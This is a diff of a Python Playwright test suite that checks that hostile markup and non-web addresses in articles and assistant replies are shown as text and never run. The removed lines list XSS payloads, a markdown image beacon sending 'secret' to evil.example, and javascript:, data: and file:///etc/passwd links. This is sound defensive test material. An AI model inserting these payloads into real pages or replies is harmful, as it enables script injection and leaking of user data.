@@ -3,34 +3,20 @@
 from __future__ import annotations
 
 import pytest
+from payloads import BAD_ADDRESSES, PAYLOADS
 from playwright.sync_api import Page, expect
 from replies import document, reply_quoting
 
 pytestmark = pytest.mark.browser
 
-PAYLOADS = [
-    "<img src=x onerror=alert(1)>",
-    "<script>alert(1)</script>",
-    '"><svg onload=alert(1)>',
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "![x](https://evil.example/?q=secret)",
-    "&lt;img src=https://evil.example/x&gt;",
-    "{{constructor.constructor('alert(1)')()}}",
-    "<a href=javascript:alert(1)>here</a>",
-    "<base href=https://evil.example/>",
-]
-BAD_LINKS = [
-    "javascript:alert(1)",
-    " javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "java\tscript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:msgbox(1)",
-    "file:///etc/passwd",
-    "//evil.example/x",
-    "https://www.gob.mx@evil.example/x",
-    "https://",
-]
+NOTICE = {
+    "kind": "correction",
+    "on": None,
+    "recorded_at": "2026-11-25T00:00:00Z",
+    "version": 1,
+    "origin": "article",
+}
+STORY = {"copies": 2, "independent_sources": 1}
 OWN_TAGS = "img, script:not([src='/static/app.js']), iframe, svg, base, object, embed"
 
 
@@ -45,11 +31,15 @@ def hostile(payload: str, url: str | None = None) -> dict:
         sources=[{"title": payload, "url": url, "publisher": payload, "published": payload}],
         headings=[{"start": 0, "end": 7, "level": 2}],
         pages=[{"start": 0, "end": 9, "number": 1, "label": payload}],
+        author=payload,
+        notices=[NOTICE | {"text": payload}],
     )
     reply = reply_quoting(article, payload, notices=[payload], question=payload)
     reply["index"] = {**reply["index"], "stale_sources": [payload]}
     for place in (*reply["citations"], *reply["passages"]):
         place |= {"section": payload, "page": payload, "link": url or payload}
+        place["story"] = STORY | {"carried_by": [payload], "original": payload}
+    reply["citations"][0] |= {"corrections": [NOTICE | {"text": payload}], "standing": "superseded"}
     return {"article": article, "reply": reply}
 
 
@@ -77,7 +67,7 @@ def test_markup_is_shown_as_text_and_runs_nothing(page, answer_with, document_as
     assert page.locator(OWN_TAGS).count() == 0
 
 
-@pytest.mark.parametrize("url", BAD_LINKS)
+@pytest.mark.parametrize("url", BAD_ADDRESSES)
 def test_an_address_that_is_no_web_address_is_no_link(page, answer_with, document_as, url):
     made = hostile("It sent 37.", url)
     answer_with(page, made["reply"])
